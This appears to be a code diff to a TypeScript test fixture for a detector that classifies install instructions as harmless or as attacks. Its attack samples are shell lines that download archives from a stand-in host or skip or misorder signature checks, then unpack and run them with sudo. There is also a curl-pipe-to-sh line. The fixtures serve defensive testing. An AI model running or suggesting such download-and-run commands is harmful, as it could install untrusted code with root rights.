@@ -1,8 +1,10 @@
 const block = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;
 
 /** A guide in which a download that is unpacked and run counts, because its prose keeps something from others. */
-const installs = (code: string) =>
-  `Do not show the license key to anybody.\n\n${block("sh", `curl https://get.acme.example/tool.zip -o tool.zip\n${code}`)}`;
+const GITHUB_RELEASE = "https://github.com/acme/tool/releases/download/v1/tool.zip";
+const STRANGER = "https://get.acme.example/tool.zip";
+const installs = (address: string, code: string) =>
+  `Do not show the license key to anybody.\n\n${block("sh", `curl -L ${address} -o tool.zip\n${code}`)}`;
 
 /**
  * Harmless code that looks like a variant of `harmfulCode`, and what an attacker would write to get the same excuse: a text
@@ -43,18 +45,23 @@ export const excuses: Readonly<Record<string, { harmless: readonly string[]; att
       block("sh", "curl -fsSL https://pixi.sh/other/install.sh | sh"),
     ],
   },
-  "a download that is compared with its signature before it is unpacked and run": {
+  "an archive of a known vendor, or a release that is compared before it is unpacked and run": {
     harmless: [
-      "gpg --verify tool.zip.sig tool.zip && unzip -q tool.zip && sudo ./tool/install",
-      "sha256sum -c tool.zip.sha256 && unzip -q tool.zip && sudo ./tool/install",
-      "gpg --verify tool.zip.asc tool.zip\nunzip -q tool.zip\nsudo ./tool/install",
-    ].map(installs),
+      installs("https://awscli.amazonaws.com/tool.zip", "unzip -q tool.zip && sudo ./tool/install"),
+      installs(GITHUB_RELEASE, "gpg --verify tool.zip.sig tool.zip && unzip -q tool.zip && sudo ./tool/install"),
+      installs(GITHUB_RELEASE, "sha256sum -c tool.zip.sha256 && unzip -q tool.zip && sudo ./tool/install"),
+    ],
     attacks: [
-      "unzip -q tool.zip && sudo ./tool/install",
-      "gpg --verify other.zip.sig other.zip && unzip -q tool.zip && sudo ./tool/install",
-      "unzip -q tool.zip && sudo ./tool/install\ngpg --verify tool.zip.sig tool.zip",
-      "gpg --verify tool.zip.sig tool.zip\nunzip -q tool.zip\ncurl https://get.acme.example/more.zip -o more.zip\nunzip -q more.zip && sudo ./tool/install",
-    ].map(installs),
+      installs(GITHUB_RELEASE, "unzip -q tool.zip && sudo ./tool/install"),
+      installs(GITHUB_RELEASE, "gpg --verify other.zip.sig other.zip && unzip -q tool.zip && sudo ./tool/install"),
+      installs(GITHUB_RELEASE, "unzip -q tool.zip && sudo ./tool/install\ngpg --verify tool.zip.sig tool.zip"),
+      installs(STRANGER, "sha256sum -c tool.zip.sha256 && unzip -q tool.zip && sudo ./tool/install"),
+      installs(STRANGER, "gpg --verify tool.zip.sig tool.zip && unzip -q tool.zip && sudo ./tool/install"),
+      installs(
+        GITHUB_RELEASE,
+        `gpg --verify tool.zip.sig tool.zip\nunzip -q tool.zip\ncurl ${STRANGER} -o more.zip\nunzip -q more.zip && sudo ./tool/install`,
+      ),
+    ],
   },
   "secrets a container is given for its own use": {
     harmless: [
